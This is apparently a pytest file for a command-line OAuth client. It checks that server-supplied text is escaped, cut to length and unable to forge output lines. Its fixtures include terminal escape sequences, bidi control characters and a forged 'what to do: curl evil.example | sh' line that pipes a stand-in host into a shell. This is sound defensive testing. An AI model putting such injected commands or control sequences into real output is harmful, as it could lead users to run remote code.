"""Text that comes from a server: how it looks, how much of it is shown, and -v around it."""

import re

import pytest
from conftest import STEP_2, STEP_3, EnvFile, Run, plant
from cryptography.hazmat.primitives.asymmetric import rsa
from faults import Action, Fault, Sandbox, status

from pkj.sandbox.exchange import management_refusal, oauth_refusal

TOKEN = "POST /oauth2/v1/token"  # noqa: S105 - a path


@pytest.mark.parametrize("script", [STEP_2, STEP_3])
@pytest.mark.usefixtures("app")
def test_verbose_has_a_line_for_each_request(script: str, run: Run, sandbox: Sandbox) -> None:
    quiet, verbose = run(script), run(script, "-v")

    assert (quiet.returncode, verbose.returncode) == (0, 0)
    half = sandbox.seen[len(sandbox.seen) // 2 :]
    lines = [line for line in verbose.stderr.splitlines() if sandbox.url in line]
    assert len(lines) == len(half)
    for line, seen in zip(lines, half, strict=True):
        url = re.escape(sandbox.url + seen.request.target)
        outcome = rf"[0-9]+ ms {seen.answer_status} request-id=[0-9a-f]{{32}}"
        shape = f"{seen.request.method} {url} {outcome}"
        assert re.fullmatch(shape, line), line
    assert sandbox.url not in quiet.stderr


NASTY = "\x1b[2J\x1b]0;owned\x07 \r\x9b1m\x7f\u202e\u2066\u200b\ud800 end"
RAW = re.compile(r"[^\n -~…]")


def worded(code: int, dialect: str, text: str) -> Action:
    refusal = oauth_refusal if dialect == "oauth" else management_refusal
    header = {"x-okta-request-id": text.replace("\r", "")}
    return status(code, refusal(code, f"E1{text}", text).answer.body, header)


@pytest.mark.parametrize("dialect", ["management", "oauth"])
@pytest.mark.parametrize("code", [400, 503])
@pytest.mark.usefixtures("app")
def test_control_characters_of_a_server_are_shown_as_escapes(
    code: int, dialect: str, run: Run, sandbox: Sandbox
) -> None:
    sandbox.faults.add(Fault("", worded(code, dialect, NASTY), times=None))

    result = run(STEP_3, "-v", "-o", "token")

    assert result.returncode in (3, 4)
    assert RAW.findall(result.stderr) == []
    assert r"\x1b[2J" in result.stderr
    assert r"\u202e" in result.stderr
    assert "end" in result.stderr


def test_the_name_of_an_app_forges_no_line(
    env_with_key: EnvFile, run: Run, sandbox: Sandbox, key: rsa.RSAPrivateKey
) -> None:
    name = f"{NASTY}\nerror: all is lost\nwhat to do: curl evil.example | sh"
    for _ in range(2):
        plant(sandbox, env_with_key, key, client_name=name)
    env_with_key.write(CLIENT_ID="")

    result = run(STEP_2)

    assert result.returncode == 1
    assert RAW.findall(result.stdout + result.stderr) == []
    starts = [line.partition(":")[0] for line in result.stderr.splitlines()]
    assert starts.count("error") == starts.count("what to do") == 1


@pytest.mark.parametrize(
    ("body", "headers"),
    [
        pytest.param({"errorCode": "E1", "errorSummary": "s" * 10**5}, {}, id="summary"),
        pytest.param({"errorCode": "E" * 10**5, "errorSummary": "s"}, {}, id="code"),
        pytest.param({"error": "e", "error_description": "s" * 10**5}, {}, id="description"),
        pytest.param(
            {"errorCode": "E1", "errorCauses": [{"errorSummary": "c" * 300}] * 999}, {}, id="causes"
        ),
        pytest.param({"errorCode": "E1", "errorId": "i" * 10**5}, {}, id="error-id"),
        pytest.param({}, {"x-okta-request-id": "r" * 20000}, id="request-id"),
        pytest.param({}, {"content-type": "t" * 20000}, id="content-type"),
    ],
)
@pytest.mark.usefixtures("app")
def test_a_long_text_of_a_server_is_cut(
    body: object, headers: dict[str, str], run: Run, sandbox: Sandbox
) -> None:
    sandbox.faults.add(Fault(TOKEN, status(400, body, headers)))

    result = run(STEP_3, "-v", "-o", "token")

    assert result.returncode in (3, 4)
    assert len(result.stderr) < 20_000
    assert max(map(len, result.stderr.splitlines())) < 10_000
